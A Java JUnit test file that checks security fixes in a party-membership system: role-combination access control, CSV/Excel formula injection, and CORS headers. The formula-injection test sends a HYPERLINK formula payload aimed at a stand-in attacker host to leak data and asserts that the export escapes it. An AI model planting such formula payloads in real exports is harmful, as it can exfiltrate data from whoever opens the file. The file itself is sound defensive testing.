package cn.qinglong.dangjian.query.security;

import static org.assertj.core.api.Assertions.assertThat;

import cn.qinglong.dangjian.query.testing.CommandSide;
import cn.qinglong.dangjian.query.testing.Http;
import cn.qinglong.dangjian.query.testing.QuerySideTest;
import cn.qinglong.dangjian.security.LocalTokens;
import cn.qinglong.dangjian.security.Role;
import cn.qinglong.dangjian.security.testing.RawHttp;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Issue 22's findings on the query side, each through real HTTP: two roles made a superuser (the role-combination
 * matrix, writes on the real command side, reads here), CSV and Excel cells that were formulas, and
 * {@code Access-Control-Allow-Origin: *} on authenticated reads.
 */
class SecurityFindingsTest extends QuerySideTest {

    private static String p;

    @Autowired
    LocalTokens tokens;

    private Http command;

    @BeforeEach
    void subdistrict() {
        command = new Http(CommandSide.baseUrl());
        if (p != null) {
            return;
        }
        String prefix = "mix-" + UUID.randomUUID().toString().substring(0, 6);
        long position = 0;
        List<String> bodies = List.of(
                "/organizations", "{\"organizationId\":\"%1$s-c\",\"name\":\"青龙街道党工委\",\"level\":\"COMMITTEE\",\"establishedOn\":\"2020-01-01\"}",
                "/organizations", "{\"organizationId\":\"%1$s-a\",\"name\":\"第一党支部\",\"level\":\"BRANCH\",\"parentId\":\"%1$s-c\",\"establishedOn\":\"2020-01-01\"}",
                "/organizations", "{\"organizationId\":\"%1$s-b\",\"name\":\"第二党支部\",\"level\":\"BRANCH\",\"parentId\":\"%1$s-c\",\"establishedOn\":\"2020-01-01\"}",
                "/members", "{\"memberId\":\"%1$s-ma\",\"name\":\"周桂兰\",\"gender\":\"F\",\"birthDate\":\"1944-05-01\",\"joinedPartyOn\":\"1970-07-01\",\"branchId\":\"%1$s-a\",\"categories\":[\"RETIRED\"],\"residence\":{\"status\":\"ORIGINAL\"},\"registeredOn\":\"2021-01-01\"}",
                "/members", "{\"memberId\":\"%1$s-mb\",\"name\":\"钱国强\",\"gender\":\"M\",\"birthDate\":\"1940-05-01\",\"joinedPartyOn\":\"1975-07-01\",\"branchId\":\"%1$s-b\",\"categories\":[\"FARMER\"],\"residence\":{\"status\":\"ORIGINAL\"},\"registeredOn\":\"2021-01-01\"}");
        for (int i = 0; i < bodies.size(); i += 2) {
            Http.Response reply = command.post(bodies.get(i), bodies.get(i + 1).formatted(prefix));
            assertThat(reply.status()).as(reply.text()).isIn(200, 201);
            position = reply.json().get("position").asLong();
        }
        assertThat(query.get("/members/" + prefix + "-mb?minPosition=" + position).status()).isEqualTo(200);
        p = prefix;
    }

    private static boolean reads(Role role) {
        return role.allows(Role.Access.READ);
    }

    @Test
    @DisplayName("item 1: every pair of roles × in/out of scope × read/write: a role acts only where it reaches; two roles make no superuser")
    void roleCombinationMatrix() {
        int commandPort = URI.create(CommandSide.baseUrl()).getPort();
        List<String> wrong = new ArrayList<>();
        int cases = 0;
        Role[] roles = Role.values();
        for (int i = 0; i < roles.length; i++) {
            for (int j = i; j < roles.length; j++) {
                List<Role> pair = i == j ? List.of(roles[i]) : List.of(roles[i], roles[j]);
                String token = tokens.mint("mix-" + roles[i] + "-" + roles[j], pair, List.of(p + "-a"), false);
                for (boolean inScope : new boolean[]{true, false}) {
                    String member = p + (inScope ? "-ma" : "-mb");
                    int read = query.anonymous().get("/members/" + member, "Authorization", "Bearer " + token).status();
                    int expectedRead = expected(pair, inScope, Role.Access.READ);
                    if (read != expectedRead) {
                        wrong.add(pair + (inScope ? " in" : " out of") + " scope READ: " + read + ", expected " + expectedRead);
                    }
                    long before = events(member);
                    var write = RawHttp.send(commandPort, "PUT", "/api/members/" + member + "/care-needs",
                            "{\"needs\":[\"FRAIL\"],\"recordedOn\":\"2026-02-05\"}", "Authorization: Bearer " + token);
                    int expectedWrite = expected(pair, inScope, Role.Access.WRITE);
                    if (write.status() != expectedWrite) {
                        wrong.add(pair + (inScope ? " in" : " out of") + " scope WRITE: " + write.status() + ", expected " + expectedWrite);
                    }
                    if (expectedWrite >= 400 && events(member) != before) {
                        wrong.add(pair + (inScope ? " in" : " out of") + " scope WRITE recorded an event");
                    }
                    if (write.status() >= 400 && !write.contentType().startsWith("application/problem+json")) {
                        wrong.add(pair + " WRITE refusal is not problem+json");
                    }
                    cases += 2;
                }
            }
        }
        assertThat(wrong).as("of " + cases + " cases").isEmpty();
        assertThat(cases).isEqualTo(15 * 2 * 2);
    }

    /**
     * 200 when one of the roles allows it where it reaches; otherwise 403 when no role may do it at all (the URL
     * rules), 404 when one may but not to this member (out of reach reads as unknown).
     */
    private static int expected(List<Role> pair, boolean inScope, Role.Access access) {
        boolean some = pair.stream().anyMatch(role -> role.allows(access));
        boolean allowed = pair.stream().anyMatch(role -> role.allows(access) && (role.subdistrictWide() || inScope));
        return allowed ? 200 : some ? 404 : 403;
    }

    private long events(String member) {
        var stream = eventStore.readEvents(member, 0);
        long count = 0;
        while (stream.hasNext()) {
            stream.next();
            count++;
        }
        return count;
    }

    @Test
    @DisplayName("item 5: a request id that is a formula is text in the auditors' CSV, not a formula")
    void csvCellsAreNeverFormulas() throws Exception {
        String member = p + "-csv";
        String formula = "@HYPERLINK(\"http://attacker.example/leak\",\"click\")";
        HttpRequest request = HttpRequest.newBuilder(URI.create(CommandSide.baseUrl() + "/members"))
                .header("Content-Type", "application/json").header("Authorization", command.authorization())
                .header("X-Request-Id", formula)
                .POST(HttpRequest.BodyPublishers.ofString(("{\"memberId\":\"%s\",\"name\":\"=1+1\",\"gender\":\"F\",\"birthDate\":\"1960-05-01\","
                        + "\"joinedPartyOn\":\"1990-07-01\",\"branchId\":\"%s-a\",\"categories\":[\"RETIRED\"],"
                        + "\"residence\":{\"status\":\"ORIGINAL\"},\"registeredOn\":\"2021-01-01\"}").formatted(member, p)))
                .build();
        HttpResponse<String> created = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);

        Http.Response csv = query.get("/members/" + member + "/history", "Accept", "text/csv");
        assertThat(csv.status()).as(csv.text()).isEqualTo(200);
        for (String line : csv.text().split("\r\n")) {
            for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(value).as("a CSV cell of " + line).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@");
            }
        }
        assertThat(csv.text()).contains("'@HYPERLINK(");
    }

    @Test
    @DisplayName("item 5: an Excel export's text cells that could be formulas are text")
    void excelCellsAreNeverFormulas() throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/exports"))
                .header("Content-Type", "application/json").header("Authorization", query.authorization())
                .POST(HttpRequest.BodyPublishers.ofString(
                        "{\"title\":\"=t\",\"columns\":[\"=SUM(A1)\",\"name\"],\"rows\":[[\"=1+1\",\"+2\"],[\"-3\",\"@x\"],[\"\\tx\",5]]}"))
                .build();
        HttpResponse<byte[]> reply = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofByteArray());
        assertThat(reply.statusCode()).isEqualTo(200);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(reply.body()))) {
            Sheet sheet = workbook.getSheetAt(0);
            // row 0 is TitledSheet's title row: a title that is a formula is text too
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).startsWith("'=t");
            assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).isEqualTo("'=SUM(A1)");
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEqualTo("'=1+1");
            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo("'+2");
            assertThat(sheet.getRow(3).getCell(0).getStringCellValue()).isEqualTo("'-3");
            assertThat(sheet.getRow(3).getCell(1).getStringCellValue()).isEqualTo("'@x");
            assertThat(sheet.getRow(4).getCell(0).getStringCellValue()).isEqualTo("'\tx");
            assertThat(sheet.getRow(4).getCell(1).getNumericCellValue()).isEqualTo(5.0);
        }
    }

    @Test
    @DisplayName("item 9: no Access-Control-Allow-Origin for an origin nobody configured, on reads or preflights")
    void noCorsUnlessConfigured() {
        Http.Response read = query.get("/members/" + p + "-ma", "Origin", "http://attacker.example");
        assertThat(read.status()).isEqualTo(200);
        assertThat(read.header("Access-Control-Allow-Origin")).isNull();
        var preflight = RawHttp.send(port, "OPTIONS", "/api/members/" + p + "-ma", null, "Origin: http://attacker.example",
                "Access-Control-Request-Method: GET", "Access-Control-Request-Headers: authorization");
        assertThat(preflight.header("Access-Control-Allow-Origin")).as(preflight.toString()).isNull();
    }
}
